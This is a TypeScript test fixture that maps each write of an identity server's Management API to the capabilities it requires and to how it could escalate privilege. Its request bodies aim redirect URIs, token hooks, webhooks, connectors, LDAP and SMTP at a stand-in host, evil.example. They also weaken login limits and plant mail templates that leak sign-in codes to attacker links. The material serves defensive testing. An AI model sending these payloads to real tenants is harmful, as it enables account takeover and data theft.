// What each write of the Management API takes, and what it could hand out: the judgement that test/surfaces/power-graph.test.ts holds
// against a running server. A write that is not judged here fails that test: whoever adds one says what it takes and by which of the
// ways below somebody could grow by it.
import { type Capability, capabilitiesOfTenant } from '../../src/domain/people/capabilities.ts';
import type { Json } from './management.ts';
import type { PowerWorld } from './power-world.ts';

/**
 * How a write could make somebody stronger, and so what is asked of it. `nothing`: it ends, orders or draws something. `shows`: it answers
 * with what others wrote. `secret`: it makes one, which opens no more than its maker held. `entry`: it lets in as a person, and `person`:
 * it changes who somebody is or how they are reached; neither of anybody who holds more. `address`: something is sent where it says, with
 * no secret that was given for another place, and nothing its maker could not read. `switch`: it turns something on. `words`: what people
 * read. `proof`: how people prove who they are.
 */
export const ways = ['nothing', 'shows', 'secret', 'entry', 'person', 'address', 'switch', 'words', 'proof'] as const;
export type Way = (typeof ways)[number];

export interface Judged {
  /** All that is taken for the body of the examples, or the first of `bodies`. */
  readonly needs: readonly Capability[];
  readonly way: Way;
  /** Bodies that weaken, redirect, turn on and rename as no schema says; tried after those the schema gives. */
  readonly bodies?: (world: PowerWorld) => readonly Json[];
  /** Whoever has this one comes in too; each field of the body asks for its own. */
  readonly or?: Capability;
  /** The mark that its answer tells by design. */
  readonly tells?: string;
  /** Instead of JSON. */
  readonly bytes?: 'metadata' | 'picture';
  /** Why nobody brings it about in the world of the test. */
  readonly undone?: string;
}

const judge =
  (...needs: readonly Capability[]) =>
  (way: Way, more: Omit<Judged, 'needs' | 'way'> = {}): Judged => ({ needs, way, ...more });

const clients = judge('clients:write');
const resources = judge('resources:write');
const administrators = judge('administrators:write');
const settings = judge('settings:write');
const users = judge('users:write');
const groups = judge('groups:write');
const organizations = judge('organizations:write');
const devices = judge('devices:write');
const invitations = judge('invitations:write');
const recover = judge('users:recover');
const providers = judge('service-providers:write');
const signIn = judge('sign-in:write');
const webhooks = judge('webhooks:write');
const connectors = judge('connectors:write');
const directories = judge('connectors:write', 'users:read', 'users:write');
const keys = judge('signing-keys:write');
const branding = judge('branding:write');
const mail = judge('mail:write');
const domain = judge('domain:write');
const tenants = judge('tenants:write');

export const attacker = 'https://evil.example';
const directoryOf = (name: string): Json => ({
  ...{ name, kind: 'openldap', url: `ldaps://${new URL(attacker).host}`, bind_dn: 'cn=mine', bind_password: 'mine', base_dn: 'dc=evil' },
});
const mailServer = { host: 'evil.example', port: 587, security: 'starttls', from: 'a@evil.example' };
const weakest = {
  login_methods: ['email_pin'],
  pin: {
    length: 6,
    attempts_max: 10,
    failures_per_day_max: 100,
    lifetime_seconds: 3600,
    resend_cooldown_seconds: 1,
    sends_per_hour_max: 1000,
  },
  device: { additional_device: 'email_pin', web_phones: true },
  login_lifetime_seconds: 300,
  rate_limits: {
    login_starts_per_ip: { limit: 1_000_000, period_seconds: 1 },
    pin_attempts_per_ip: { limit: 1_000_000, period_seconds: 1 },
  },
};

// biome-ignore format: a write a line
export const judged: Readonly<Record<string, Judged>> = {
  'POST /clients': clients('secret'),
  'PATCH /clients/{id}': clients('secret', { bodies: () => [{ redirect_uris: [`${attacker}/callback`], token_endpoint_auth_method: 'client_secret_post' }] }),
  'DELETE /clients/{id}': clients('nothing'),
  'POST /clients/{id}/secret': clients('secret'),
  'POST /clients/{id}/assignments': clients('switch', { bodies: ({ people }) => [{ user_id: people.plain.id }] }),
  'DELETE /clients/{id}/assignments/{assignment_id}': clients('nothing'),
  'POST /initial-access-tokens': clients('secret'),
  'DELETE /initial-access-tokens/{id}': clients('nothing'),
  'POST /workload-issuers': clients('secret'),
  'PATCH /workload-issuers/{id}': clients('secret'),
  'DELETE /workload-issuers/{id}': clients('nothing'),
  'POST /ssf-streams/{id}/status': judge('clients:write', 'ssf.read', 'ssf.manage')('switch', { bodies: () => [{ status: 'enabled' }] }),
  'POST /ssf-streams/{id}/verify': clients('nothing'),
  'DELETE /ssf-streams/{id}': judge('clients:write', 'ssf.read', 'ssf.manage')('nothing'),

  'POST /resources': resources('nothing'),
  'PATCH /resources/{id}': resources('nothing'),
  'DELETE /resources/{id}': resources('nothing'),
  'POST /resources/{id}/assignments': resources('switch', { bodies: ({ people }) => [{ user_id: people.plain.id }] }),
  'DELETE /resources/{id}/assignments/{assignment_id}': resources('nothing'),

  'POST /roles': administrators('nothing', { bodies: () => [{ name: 'mine', capabilities: [] }] }),
  'PATCH /roles/{name}': administrators('person', { bodies: () => [{ capabilities: [] }] }),
  'DELETE /roles/{name}': administrators('nothing'),
  'PUT /users/{id}/roles': administrators('person', { bodies: () => [{ roles: [] }] }),

  'POST /organization-roles': organizations('nothing'),
  'PATCH /organization-roles/{name}': organizations('nothing'),
  'DELETE /organization-roles/{name}': organizations('nothing'),
  'POST /organizations': organizations('nothing'),
  'PATCH /organizations/{id}': organizations('switch', { bodies: () => [{ enabled: true }, { join: ['domain', 'provider'], domains: ['evil.example'], default_roles: ['mark-organizations'] }] }),
  'DELETE /organizations/{id}': organizations('nothing'),
  'POST /organizations/{id}/check-domains': organizations('nothing'),
  'PUT /organizations/{id}/members/{user_id}': organizations('person', { bodies: () => [{}, { roles: ['mark-organizations'] }] }),
  'DELETE /organizations/{id}/members/{user_id}': organizations('nothing'),
  'POST /organizations/{id}/scim-tokens': judge('organizations:write', 'scim:read', 'scim:write')('secret', { bodies: () => [{ name: 'mine', expires_in_days: null }] }),
  'DELETE /organizations/{id}/scim-tokens/{token_id}': organizations('nothing', { undone: 'the world has no token' }),
  'POST /organizations/{id}/invitations': judge('organizations:write', 'users:write', 'invitations:write')('entry', { bodies: ({ people }) => [...Object.values(people).map(({ email }) => ({ email, mail: false })), { email: 'new@evil.example', roles: ['mark-organizations'], mail: false }] }),
  'POST /organizations/{id}/setup-links': judge('organizations:write', 'sign-in:write', 'scim:read', 'scim:write')('secret'),
  'DELETE /organizations/{id}/setup-links/{link_id}': organizations('nothing'),
  'DELETE /organizations/{id}/invitations/{invitation_id}': judge('organizations:write', 'invitations:write')('nothing'),

  'POST /custom-attributes': settings('nothing'),
  'PATCH /custom-attributes/{id}': settings('person'),
  'DELETE /custom-attributes/{id}': settings('nothing'),
  'PUT /mappings/oidc': settings('address'),
  'PUT /mappings/saml': settings('address'),
  'PUT /mappings/scim': judge('settings:write', 'users:read')('address'),
  'PUT /mappings/inbound': signIn('proof'),
  'POST /mappings/preview': judge('settings:read', 'users:read')('shows', { bodies: ({ people }) => [{ kind: 'oidc', user_id: people.plain.id, rules: [{ to: 'their_groups', from: 'user_name', scope: 'profile' }] }, { kind: 'oidc', user_id: people.plain.id, rules: [{ to: 'their_groups', from: 'groups', scope: 'profile' }] }] }),
  'PATCH /settings': settings('proof', { or: 'sign-in:write', bodies: () => [{ access_token_lifetime_seconds: 900 }, weakest, { branding: { accent: '#1d4ed8' } }, { smtp: { server: mailServer } }] }),
  'POST /settings/lists': signIn('proof', { or: 'settings:write', bodies: () => [{ add: { client_hosts: { trusted: ['evil.example'] } } }, { add: { login_methods: ['email_pin'] } }, { add: { extra_grants: ['registration'] } }, { remove: { login_methods: ['passkey', 'phone'] } }] }),
  'POST /document': judge(...capabilitiesOfTenant({ slug: 'any' }))('switch', { undone: 'who holds everything has nothing to grow by; whoever lacks one capability is refused in management-document.test.ts' }),

  'POST /scim-tokens': judge('clients:write', 'scim:read', 'scim:write')('secret', { bodies: () => [{ name: 'mine', expires_in_days: null }] }),
  'DELETE /scim-tokens/{id}': clients('nothing', { undone: 'the world has no token' }),

  'POST /users': users('person'),
  'PATCH /users/{id}': users('person', { bodies: () => [{ state: 'active' }, { role: 'admin' }] }),
  'DELETE /users/{id}': users('nothing'),
  'POST /users/{id}/suspend': users('nothing'),
  'POST /users/{id}/activate': users('switch'),
  'DELETE /users/{id}/sessions': users('nothing'),
  'DELETE /users/{id}/sessions/{session_id}': users('nothing', { undone: 'nobody is signed in' }),
  'DELETE /users/{id}/browser-sessions': users('nothing'),
  'DELETE /users/{id}/browser-sessions/{session_id}': users('nothing', { undone: 'nobody is signed in' }),
  'DELETE /users/{id}/external-identities/{identity_id}': users('nothing'),

  'POST /groups': groups('nothing'),
  'PATCH /groups/{id}': groups('nothing'),
  'DELETE /groups/{id}': groups('nothing'),
  'POST /groups/{id}/members': groups('person', { tells: 'mark-people', bodies: ({ people }) => Object.values(people).map(({ id }) => ({ user_id: id })) }),
  'DELETE /groups/{id}/members/{user_id}': groups('nothing'),

  'POST /users/{id}/enrollments': devices('entry'),
  'POST /devices/{id}/test-push': devices('nothing'),
  'DELETE /devices/{id}': devices('nothing'),
  'DELETE /devices/{id}/keys/{key_id}': devices('nothing', { undone: 'a device is revoked before its key' }),
  'DELETE /users/{id}/passkeys/{passkey_id}': devices('nothing'),
  'POST /users/{id}/invitations': invitations('entry', { tells: 'mark-people', bodies: () => [{ mail: false }] }),
  'POST /invitations': judge('invitations:write', 'users:read', 'users:write')('entry', { tells: 'mark-people', bodies: ({ people }) => [...Object.values(people).map(({ email }) => ({ people: [{ emails: [{ value: email }] }], invite: 'link' })), { people: [{ emails: [{ value: 'new@evil.example' }], admin_roles: ['owner'] }], invite: 'link' }] }),
  'DELETE /users/{id}/invitations/{invitation_id}': invitations('nothing', { undone: 'a newer link revoked it' }),
  'POST /users/{id}/recoveries': recover('entry', { tells: 'mark-people', bodies: () => [{ reason: 'Lost', mail: false }] }),
  'DELETE /users/{id}/recoveries/{recovery_id}': recover('nothing', { undone: 'a newer link revoked it' }),

  'POST /service-providers': providers('address'),
  'POST /service-providers/import': providers('address', { bytes: 'metadata' }),
  'POST /service-providers/import/address': providers('address', { bodies: () => [{ metadata_url: `${attacker}/metadata` }, { metadata_url: 'https://10.0.0.1/metadata', dry_run: true }], undone: 'what it registers is read from an address, which is not there' }),
  'PATCH /service-providers/{id}': providers('address'),
  'DELETE /service-providers/{id}': providers('nothing'),
  'POST /service-providers/{id}/assignments': providers('switch', { bodies: ({ people }) => [{ user_id: people.plain.id }] }),
  'DELETE /service-providers/{id}/assignments/{assignment_id}': providers('nothing'),
  'POST /service-providers/{id}/signing-keys': keys('nothing', { bodies: () => [{ force: true }] }),
  'POST /service-providers/{id}/metadata-refresh': providers('address', { undone: 'its metadata is read from an address, which is not there' }),
  'POST /service-providers/{id}/metadata-refresh/approve': providers('address', { undone: 'no host waits' }),

  'POST /identity-providers': signIn('proof', { bodies: () => [{ alias: 'mine', kind: 'oidc', name: 'Mine', issuer: attacker, client_id: 'mine', client_secret: 'mine', trust_email: true, create_users: true }] }),
  'PATCH /identity-providers/{id}': signIn('proof', { bodies: () => [{ issuer: attacker }, { client_id: 'mine' }, { acr_map: { strong: 'phr' } }, { issuer: attacker, client_secret: 'mine' }, { enabled: true }] }),
  'POST /identity-providers/{id}/check-domains': signIn('nothing'),
  'DELETE /identity-providers/{id}': signIn('nothing'),
  'POST /hooks': judge('sign-in:write', 'users:read')('address', { bodies: () => [{ point: 'token', url: `${attacker}/hook`, on_failure: 'continue' }] }),
  'PATCH /hooks/{id}': judge('sign-in:write', 'users:read')('address'),
  'POST /hooks/{id}/secret': judge('sign-in:write', 'users:read')('secret'),
  'POST /hooks/{id}/test': signIn('nothing'),
  'DELETE /hooks/{id}': signIn('nothing'),

  'POST /webhooks': judge('webhooks:write', 'events:read', 'users:read')('address', { bodies: () => [{ url: `${attacker}/webhook` }, { url: `${attacker}/other`, types: ['tenant.updated'] }] }),
  'PATCH /webhooks/{id}': judge('webhooks:write', 'events:read', 'users:read')('address'),
  'POST /webhooks/{id}/secret': judge('webhooks:write', 'events:read', 'users:read')('secret'),
  'DELETE /webhooks/{id}': webhooks('nothing'),
  'POST /webhooks/{id}/deliveries/{delivery_id}/replay': webhooks('address', { undone: 'nothing was delivered' }),
  'POST /webhooks/{id}/replay': webhooks('address'),
  'POST /webhooks/{id}/test': webhooks('nothing'),

  'POST /connectors': judge('connectors:write', 'users:read')('address', { bodies: () => [{ name: 'Mine', base_url: `${attacker}/scim`, auth: { type: 'bearer', token: 'mine' } }, { name: 'Groups', base_url: `${attacker}/scim`, auth: { type: 'bearer', token: 'mine' }, mappings: [{ to: 'title', from: 'groups', join: ',' }] }] }),
  'PATCH /connectors/{id}': judge('connectors:write', 'users:read')('address', { bodies: () => [{ rate: 2 }, { base_url: `${attacker}/scim` }, { auth: { type: 'basic', username: 'mine' } }, { mappings: [{ to: 'title', from: 'groups', join: ',' }] }, { enabled: true }] }),
  'DELETE /connectors/{id}': connectors('nothing'),
  'POST /connectors/{id}/sync': connectors('nothing'),
  'POST /connectors/{id}/plan': judge('connectors:read', 'users:read')('shows'),
  'POST /connectors/{id}/provision': judge('connectors:write', 'users:read')('shows', { bodies: ({ people }) => [{ user_id: people.plain.id }] }),
  'POST /connectors/{id}/approve': connectors('nothing', { undone: 'nothing waits' }),
  'POST /connectors/{id}/resume': connectors('switch'),
  'POST /connectors/{id}/links/{link_id}/resolve': judge('connectors:write', 'users:read')('address', { undone: 'no link is in conflict' }),

  'POST /directories': directories('person', { bodies: () => [{ ...directoryOf('Mine') }, { ...directoryOf('Groups'), groups: 'all' }, { ...directoryOf('Over'), match: 'email' }] }),
  'PATCH /directories/{id}': directories('address', { bodies: () => [{ every_minutes: 30 }, { url: `ldaps://${new URL(attacker).host}` }, { bind_dn: 'cn=mine' }, { match: 'email' }, { groups: 'all' }, { enabled: true }] }),
  'DELETE /directories/{id}': connectors('nothing'),
  'POST /directories/{id}/sync': connectors('nothing', { undone: 'it is not enabled' }),
  'POST /directories/{id}/plan': judge('connectors:read', 'users:read', 'users:write')('shows'),
  'POST /directories/{id}/test': judge('connectors:read', 'users:read', 'users:write')('shows'),
  'POST /directories/{id}/approve': directories('person', { undone: 'nothing waits' }),
  'POST /directories/{id}/links/{link_id}/resolve': directories('person', { undone: 'no link is in conflict' }),

  'POST /signing-keys': keys('nothing'),
  'PUT /branding/draft': branding('words'),
  'DELETE /branding/draft': branding('nothing', { undone: 'the draft was published' }),
  'POST /branding/publish': branding('words'),
  'POST /branding/undo': branding('words'),
  'POST /images': branding('words', { bytes: 'picture' }),
  'DELETE /images/{sha256}': branding('nothing'),
  'PUT /texts/{language}/draft': branding('words'),
  'DELETE /texts/{language}/draft': branding('nothing', { undone: 'the draft was published' }),
  'POST /texts/{language}/publish': branding('words'),
  'POST /texts/{language}/undo': branding('words'),
  'DELETE /texts/{language}': branding('nothing'),
  'PUT /mails/{kind}/{language}/draft': mail('words', { bodies: () => [{ subject: 'Code', body: '{{code}}' }, { subject: 'Code', body: `Open ${attacker}/?{{code}}` }, { subject: 'Code', body: `[Open](${attacker}/{{code}}) {{code}}` }, { subject: 'Code', body: `**${attacker}/**{{code}}` }] }),
  'DELETE /mails/{kind}/{language}/draft': mail('nothing', { undone: 'the draft was published' }),
  'POST /mails/{kind}/{language}/publish': mail('words'),
  'POST /mails/{kind}/{language}/undo': mail('words'),
  'DELETE /mails/{kind}/{language}': mail('nothing'),
  'POST /mails/{kind}/{language}/test': mail('words', { bodies: ({ people }) => [{ to: people.keyed.email }, { to: 'a@evil.example' }] }),
  'PUT /mail-server': signIn('proof', { bodies: () => [mailServer] }),
  'DELETE /mail-server': signIn('proof'),
  'POST /mail-server/test': mail('words', { bodies: ({ people }) => [{ to: people.keyed.email }, { to: 'a@evil.example' }], undone: 'no mail server is there' }),

  'PUT /domain': domain('address'),
  'POST /domain/check': domain('nothing'),
  'POST /domain/activate': domain('address', { undone: 'the record is not in the DNS' }),
  'DELETE /domain': domain('nothing'),

  'POST /tenants': tenants('secret'),
  'PATCH /tenants/{id}': tenants('switch'),
  'POST /tenants/{id}/invitations': tenants('entry'),
  'DELETE /tenants/{id}': tenants('nothing'),
};
